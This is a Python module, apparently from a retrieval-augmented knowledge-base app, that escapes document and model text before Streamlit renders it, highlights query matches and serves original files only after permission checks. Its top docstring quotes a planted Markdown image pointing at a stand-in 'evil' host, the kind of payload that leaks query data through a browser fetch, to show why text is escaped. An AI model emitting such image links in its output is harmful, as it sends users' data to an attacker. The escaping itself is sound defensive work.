"""How text from documents and the LLM looks on a page: escaped, with source cards and verified downloads.

Everything a document or a model wrote (answers, titles, sections, passages, summaries, entity
names) goes through ``safe_markdown`` before Streamlit renders it, so it shows literally: a planted
``![x](http://evil/?q=…)`` is text, never an image the browser fetches or a link to click.
The query's matched words are found with the keyword retriever's own tokenizer (stems for English,
jieba words for Chinese), so what lights up is what BM25 matched: "policies" lights up "policy".
An original file is served only after re-checking, at the click, that the user may still see the
document and that the file on disk is the one ingested (``zhiku.originals.verified_original``).
"""
from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from pathlib import Path

import jieba
import streamlit as st

from zhiku import audit
from zhiku.errors import DownloadError
from zhiku.originals import verified_original
from zhiku.kb import KnowledgeBase
from zhiku.records import Citation, Hit, Triple, User
from zhiku.text import CJK, CJK_CHARS

#: A passage splits into Chinese runs, words and the rest (spaces, punctuation).
_PIECES = re.compile(rf"([{CJK_CHARS}]+|[^\W_]+)", re.UNICODE)
#: Characters Streamlit's markdown would interpret (emphasis, links, images, LaTeX, emoji shortcodes,
#: colour directives, HTML and entities).
_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|$~<>:&=\"'])")

Tokenize = Callable[[str], list[str]]


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that renders it literally (line breaks kept): no HTML, images, links or formatting.

    Escaping is per character, so escaping the pieces of a text (streamed tokens) equals escaping the whole.
    """
    return _MARKDOWN.sub(r"\\\1", text).replace("\n", "  \n")


def highlight(passage: str, query: str, tokenize: Tokenize) -> str:
    """``passage`` as Streamlit markdown, the words that match the query's terms highlighted.

    Neighbouring matches ("annual leave") are highlighted as one span, and line breaks are kept, so
    table rows and lists in a passage stay on their own lines.
    """
    terms = set(tokenize(query))
    pieces: list[tuple[str, bool]] = []
    for piece in _PIECES.split(passage):
        for word in (jieba.lcut(piece) if CJK.match(piece) else [piece]):
            hit = bool(terms) and bool(_PIECES.fullmatch(word)) and bool(terms.intersection(tokenize(word)))
            if hit and len(pieces) >= 2 and pieces[-1][0] == " " and pieces[-2][1]:
                pieces[-2:] = [(pieces[-2][0] + pieces[-1][0] + word, True)]
            elif hit and pieces and pieces[-1][1]:
                pieces[-1] = (pieces[-1][0] + word, True)
            elif word:
                pieces.append((word, hit))
    return "".join(f":orange-background[**{safe_markdown(w)}**]" if hit else safe_markdown(w) for w, hit in pieces)


def card_title(citation: Citation) -> str:
    """``[n] file.pdf · p. 3 · Heading > Sub``: what identifies a source at a glance.

    Text read by OCR says so (``scanned page 3 · OCR 97%``): its wording may differ from the paper."""
    hit = citation.hit
    parts = [f"[{citation.n}] {Path(hit.document.source).name}"]
    if hit.chunk.kind == "ocr":
        parts.append(f"scanned page {hit.chunk.page or 1}")
        confidence = hit.document.metadata.get("ocr_pages", {}).get(str(hit.chunk.page or 1))
        if confidence is not None:
            parts.append(f"OCR {confidence:.0%}")
    elif hit.chunk.page is not None:
        parts.append(f"p. {hit.chunk.page}")
    if hit.chunk.section:
        parts.append(hit.chunk.section)
    return " · ".join(parts)


def fact_line(fact: Triple) -> str:
    subject, relation, obj = (safe_markdown(t) for t in (fact.subject, fact.relation, fact.object))
    return f"{subject} — *{relation}* → {obj}"


def download_control(kb: KnowledgeBase, user: User, hit: Hit, key: str) -> None:
    """"Download" checks the file (``verified_original``) and then offers exactly the checked bytes."""
    name = Path(hit.document.source).name
    if not st.button(f"Download {safe_markdown(name)}", key=key, icon=":material/download:"):
        return
    doc_id = int(hit.document.id or 0)
    try:
        path, data = verified_original(kb, user, doc_id)
    except DownloadError as exc:
        audit.record(kb, user.name, audit.DOWNLOAD, doc_id=doc_id, ok=False)
        st.warning(str(exc), icon=":material/block:")
        return
    audit.record(kb, user.name, audit.DOWNLOAD, doc_id=doc_id, source=str(path), ok=True)
    st.download_button(f"Save {safe_markdown(path.name)}", data=data, file_name=path.name, key=f"{key}-save",
                       on_click="ignore", type="primary", icon=":material/save:")


def source_card(kb: KnowledgeBase, user: User, citation: Citation, query: str, tokenize: Tokenize,
                key: str, originals: bool = True) -> None:
    """An expander with the passage (matches highlighted), where it was found and the original file.

    ``originals`` False (personal-data masking is on): no download, since the file holds the data
    the passage shows masked.
    """
    hit: Hit = citation.hit
    with st.expander(safe_markdown(card_title(citation))):
        found_by = ", ".join(f"{name} #{rank}" for name, rank in sorted(hit.found_by.items()))
        st.caption(safe_markdown(hit.document.source + (f" — found by {found_by}" if found_by else "")))
        st.markdown(highlight(hit.chunk.text, query, tokenize))
        if originals:
            download_control(kb, user, hit, key)
        else:
            st.caption("Original files are not offered while personal data is masked (setting `pii`).")


def facts_block(facts: Sequence[Triple]) -> None:
    """The knowledge-graph facts that took part in an answer, one per line."""
    if facts:
        with st.expander(f"Graph facts used ({len(facts)})"):
            st.markdown("\n".join(f"- {fact_line(f)}" for f in facts))
